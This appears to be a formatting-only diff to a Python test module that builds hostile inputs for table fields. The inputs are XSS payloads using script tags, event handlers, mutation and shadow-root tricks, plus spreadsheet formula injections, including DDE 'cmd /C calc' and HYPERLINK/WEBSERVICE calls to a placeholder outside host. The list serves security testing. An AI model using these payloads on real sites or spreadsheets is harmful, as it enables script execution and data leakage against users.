@@ -1,4 +1,4 @@
-"""Hostile texts, made here and not taken from a list: what may stand in a field of somebody's table.
+"""Hostile texts, made here and not taken from a list: what may stand in a field of a table.
 
 Each payload tells in the page that it ran by `PROBE` (it sets ``window.__pwned``), by a dialog, by
 a request that leaves the page, or by a change of the page's address. `PAYLOADS` maps a name to the
@@ -7,8 +7,11 @@ text; the names say what each tries.
 
 from __future__ import annotations
 
-from collections.abc import Iterator
 from itertools import product
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
 
 RUN = "window.__pwned=1"
 PROBE = "window.__pwned === undefined"
@@ -38,7 +41,10 @@ def _scripts() -> Iterator[tuple[str, str]]:
     yield "after an attribute", f'"><script>{RUN}</script>'
     yield "after a quoted attribute", f"'><script>{RUN}</script>"
     yield "import map", f'<script type="importmap">{{}}</script><script>{RUN}</script>'
-    yield "speculation rules", '<script type="speculationrules">{"prefetch":[{"urls":["' + OUT + '"]}]}</script>'
+    yield (
+        "speculation rules",
+        '<script type="speculationrules">{"prefetch":[{"urls":["' + OUT + '"]}]}</script>',
+    )
 
 
 def _ends_of_scripts() -> Iterator[tuple[str, str]]:
@@ -109,7 +115,7 @@ def _handlers() -> Iterator[tuple[str, str]]:
         ("style", "load", "<style onload={}></style>"),
         ("script", "error", "<script src=x onerror={}></script>"),
         ("marquee", "start", "<marquee onstart={}>x</marquee>"),
-        ("animation", "end", "<style>@keyframes x{{}}</style><p style='animation:x' onanimationend={}>"),
+        ("animation", "end", "<style>@keyframes x{{}}</style><p style='animation:x' onanimationend={}>"),  # noqa: E501
         ("transition", "end", "<p style='transition:all 1s' ontransitionend={}>"),
         ("svg animation", "begin", "<svg><animate onbegin={} attributeName=x dur=1s>"),
         ("svg set", "begin", "<svg><set onbegin={} attributeName=x dur=1s>"),
@@ -184,7 +190,7 @@ def _loads() -> Iterator[tuple[str, str]]:
         ("svg use", '<svg><use href="https:{}#x"/></svg>'),
         ("svg filter", '<svg><feImage href="https:{}"/></svg>'),
         ("style element", "<style>@import 'https:{}';</style>"),
-        ("style of a font", "<style>@font-face{{font-family:x;src:url(https:{})}}*{{font-family:x}}</style>"),
+        ("style of a font", "<style>@font-face{{font-family:x;src:url(https:{})}}*{{font-family:x}}</style>"),  # noqa: E501
         ("style attribute", '<p style="background:url(https:{})">x</p>'),
         ("cursor", '<p style="cursor:url(https:{}),auto">x</p>'),
         ("list mark", '<ul style="list-style:url(https:{})"><li>x</ul>'),
@@ -224,10 +230,20 @@ def _markup() -> Iterator[tuple[str, str]]:
     yield "svg foreign", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
     yield "svg style", f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>"
     yield "mutation", f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>"
-    yield "mutation by a table", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"
+    yield (
+        "mutation by a table",
+        "<math><mtext><table><mglyph><style><!--</style>"
+        f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
+    )
     yield "custom element", f"<x-y onconnected={RUN} is=x>x</x-y>"
-    yield "shadow root", f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>"
-    yield "clobbers names", "<form id=geomap><input name=ready></form><a id=L></a><img name=getElementById>"
+    yield (
+        "shadow root",
+        f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
+    )
+    yield (
+        "clobbers names",
+        "<form id=geomap><input name=ready></form><a id=L></a><img name=getElementById>",
+    )
     yield "overwrites the data block", '<script type="application/x-geomap" id="head">{}</script>'
     yield "names of prototypes", "__proto__"
     yield "name of the constructor", "constructor"
@@ -280,14 +296,16 @@ def _letters() -> Iterator[tuple[str, str]]:
 
 
 def _formulas() -> Iterator[tuple[str, str]]:
-    for sign, rest in product("=+-@", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https:' + OUT + '","x")')):
+    for sign, rest in product(
+        "=+-@", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https:' + OUT + '","x")')
+    ):
         yield f"formula {sign}{rest[:4]}", sign + rest
     yield "formula after a tab", "\t=1+1"
     yield "formula after a line break", "\r\n=1+1"
     yield "formula after a quote", '"=1+1'
     yield "formula of full width", "＝1+1"
     yield "cells and rows", 'a","b"\r\n"c;d|e'
-    yield "exchange of data", "=DDE(\"cmd\";\"/C calc\";\"x\")"
+    yield "exchange of data", '=DDE("cmd";"/C calc";"x")'
     yield "web service", f'=WEBSERVICE("https:{OUT}")'
 
 
